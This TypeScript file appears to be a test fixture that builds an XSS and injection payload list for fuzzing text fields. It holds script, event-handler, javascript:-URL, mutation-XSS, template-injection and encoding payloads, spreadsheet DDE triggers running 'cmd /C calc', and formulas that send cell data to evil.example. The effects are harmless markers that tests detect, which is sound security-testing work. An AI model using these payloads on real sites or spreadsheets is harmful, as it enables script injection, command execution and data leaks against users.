/**
 * Hostile text for every text field: script and markup injection, dangerous
 * URLs, mutation-XSS and namespace confusion, broken quoting, encodings,
 * template-engine probes, Unicode tricks, formula triggers for spreadsheets,
 * very long strings and NUL bytes.
 *
 * Every payload that could run does something a test can see: it opens a
 * dialog, logs a console error, sets `window.__xss`, sets the document title
 * to XSS_TITLE, or adds an element whose id starts with `xss-`. Payloads that
 * are only markup carry such an element too, so markup that reaches the DOM
 * as markup is caught even where the page's CSP stops scripts.
 */

/** What the document title becomes if a payload runs. */
export const XSS_TITLE = 'xss-fired';
/** The global a payload sets if it runs. */
export const XSS_GLOBAL = '__xss';
/** Elements a payload adds if its markup is parsed: `[id^="xss-"]`. */
export const XSS_MARKER_SELECTOR = '[id^="xss-"], xss-marker';

/** JavaScript that makes a run visible, in the forms injection usually takes. */
export const EFFECTS = [
  'alert(1)',
  'alert(document.domain)',
  'confirm(1)',
  'prompt(1)',
  "console.error('XSS')",
  `window.${XSS_GLOBAL}=1`,
  `document.title='${XSS_TITLE}'`,
  "document.body.appendChild(document.createElement('xss-marker'))",
] as const;

/** Injection shapes; `JS` is replaced by an effect. Each is one known way markup or script gets in. */
const SHAPES: readonly string[] = [
  // Classic script elements.
  '<script>JS</script>',
  '<ScRiPt>JS</sCrIpT>',
  '<script type="text/javascript">JS</script>',
  '<script src="data:text/javascript,JS"></script>',
  '<script>/*</script><script>*/JS</script>',
  '<scr<script>ipt>JS</scr</script>ipt>',
  '</script><script>JS</script>',
  '<script\x20type="module">JS</script>',
  // Event handlers on elements that fire without a user.
  '<img src=x onerror=JS>',
  '<img src="x" onerror="JS">',
  '<img/src/onerror=JS>',
  '<img srcset="x" onerror="JS">',
  '<svg onload="JS">',
  '<svg/onload=JS>',
  '<svg><script>JS</script></svg>',
  '<svg><animate onbegin="JS" attributeName="x" dur="1s">',
  '<svg><set onbegin="JS" attributeName="x" to="1">',
  '<body onload="JS">',
  '<body/onpageshow=JS>',
  '<details open ontoggle="JS">',
  '<details/open/ontoggle=JS>',
  '<input autofocus onfocus="JS">',
  '<select autofocus onfocus=JS>',
  '<textarea autofocus onfocus=JS>',
  '<video><source onerror="JS"></video>',
  '<audio src=x onerror=JS>',
  '<marquee onstart="JS">',
  '<picture><source srcset="x"><img src="x" onerror="JS"></picture>',
  '<object data="x" onerror="JS"></object>',
  '<style onload="JS"></style>',
  '<iframe onload="JS"></iframe>',
  '<x onmouseover="JS" id="xss-hover">hover</x>',
  '<div onpointerenter="JS" id="xss-pointer" style="position:fixed;inset:0">',
  // javascript:, data: and vbscript: URLs in href, src, action and formaction.
  '<a href="javascript:JS" id="xss-link">open</a>',
  '<a href="JaVaScRiPt:JS">open</a>',
  '<a href=" javascript:JS">open</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;JS">open</a>',
  '<a href="java&#x09;script:JS">open</a>',
  '<a href="java\tscript:JS">open</a>',
  '<iframe src="javascript:JS"></iframe>',
  '<iframe srcdoc="<script>JS</script>"></iframe>',
  '<embed src="javascript:JS">',
  '<object data="javascript:JS"></object>',
  '<form action="javascript:JS"><input type="submit" id="xss-submit"></form>',
  '<form><button formaction="javascript:JS" id="xss-button">go</button></form>',
  '<isindex type="image" src="1" onerror="JS">',
  '<base href="javascript:JS//">',
  '<meta http-equiv="refresh" content="0;url=javascript:JS">',
  '<svg><a><animate attributeName="href" values="javascript:JS"/><text x="20" y="20">open</text></a></svg>',
  '<table background="javascript:JS">',
  // Breaking out of an attribute, a string or an element.
  '"><img src=x onerror=JS>',
  "'><svg onload=JS>",
  '" autofocus onfocus="JS" x="',
  "' autofocus onfocus='JS' x='",
  '" onmouseover="JS',
  '`><img src=x onerror=JS>',
  '</textarea><script>JS</script>',
  '</title><script>JS</script>',
  '</style><script>JS</script>',
  '</noscript><img src=x onerror=JS>',
  '--><img src=x onerror=JS>',
  "';JS;//",
  '";JS;//',
  '\\";JS;//',
  '</option></select><img src=x onerror=JS>',
  // Mutation XSS and namespace confusion: markup that sanitisers and parsers see differently.
  '<math><mtext><table><mglyph><style><img src=x onerror=JS>',
  '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=JS>">',
  '<svg></p><style><a id="</style><img src=x onerror=JS>">',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '<template><img src=x onerror=JS></template>',
  '<style><img src=x onerror=JS></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>',
  '<svg><style><img src=x onerror=JS></style></svg>',
  '<!--<img src="--><img src=x onerror=JS//">',
  '<![CDATA[<script>JS</script>]]>',
  '<?xml-stylesheet href="javascript:JS"?>',
  '<xmp><p title="</xmp><img src=x onerror=JS>">',
  '<listing>&lt;img src=x onerror=JS&gt;</listing>',
  // Encodings a careless decoder turns back into markup.
  '&lt;script&gt;JS&lt;/script&gt;',
  '&#60;script&#62;JS&#60;/script&#62;',
  '%3Cscript%3EJS%3C%2Fscript%3E',
  '\\u003cscript\\u003eJS\\u003c/script\\u003e',
  '\\x3cscript\\x3eJS\\x3c/script\\x3e',
  '＜script＞JS＜/script＞',
  // Markdown, CSS and template-engine injection.
  '[click me](javascript:JS)',
  '[click me](<javascript:JS>)',
  '![x](x" onerror="JS)',
  '<div style="background:url(javascript:JS)">',
  '<div style="width:expression(JS)">',
  '<div style="behavior:url(#default#time2)" onbegin="JS">',
  '{{constructor.constructor(\'JS\')()}}',
  '${JS}',
  '#{JS}',
  '<%= JS %>',
  '{{JS}}',
  // Unicode: direction overrides, zero-width joins, a NUL inside the tag.
  '\u202E<script>JS</script>',
  '<scr\u200Bipt>JS</scr\u200Bipt>',
  '\u0000<script>JS</script>',
  '<img src=x\u0000 onerror=JS>',
  '<svg\u000Conload=JS>',
  // Polyglots.
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=JS )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>\\x3e",
  "'\"--></style></script><svg onload=JS>",
  '"\'><img src=x onerror=JS><"\'',
];

/** Tabs and line breaks inside a value: XML attributes and CSV cells must keep them. */
export const WHITESPACE_INSIDE = 'tab\tinside, a line\nbreak and a carriage\r\nreturn <b id="xss-whitespace">x</b>';

/** Effects per shape: each shape is tried with several, so a filter keyed on `alert` alone is not enough. */
const EFFECTS_PER_SHAPE = 2;

/** Text that is hostile without being script: formula triggers, Unicode tricks, sizes, NUL bytes. */
const PLAIN: readonly string[] = [
  // Spreadsheet formula triggers (CSV export must neutralise them).
  '=1+1',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  '=cmd|\' /C calc\'!A0',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '=IMPORTXML(CONCAT("https://evil.example/?", A1), "//a")',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  "'=1+1 already quoted",
  '＝1+1',
  '-',
  '+',
  '@',
  '=',
  // Unicode: direction overrides and look-alikes.
  'Invoice \u202Efdp.exe',
  '\u202Ejavascript:alert(1)',
  'admin\u200B@example',
  '\u2066isolate\u2069 \u2067rtl\u2069',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 zalgo',
  '\uFEFFbom at start',
  '𝓈𝒸𝓇𝒾𝓅𝓉 mathematical letters',
  'Emoji 👩🏽‍🔬🛩️ and a lone surrogate-free ZWJ \u200D',
  // NUL and control characters.
  'nul\u0000inside',
  'bell\u0007 backspace\u0008 escape\u001B[31m red',
  'line\u2028separator\u2029paragraph',
  WHITESPACE_INSIDE,
  // Very long strings.
  `long ${'A'.repeat(5000)}`,
  `long script ${'<script>alert(1)</script>'.repeat(400)}`,
  `long unbroken ${'x'.repeat(20000)}`,
];

/** Every payload, distinct, in a stable order. */
export function xssPayloads(): string[] {
  const payloads = new Set<string>();
  SHAPES.forEach((shape, i) => {
    for (let k = 0; k < EFFECTS_PER_SHAPE; k += 1) {
      const effect = EFFECTS[(i * 3 + k * 5) % EFFECTS.length] as string;
      payloads.add(shape.replaceAll('JS', effect));
    }
  });
  for (const text of PLAIN) payloads.add(text);
  return [...payloads];
}

/** The characters a spreadsheet treats as the start of a formula. */
export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;
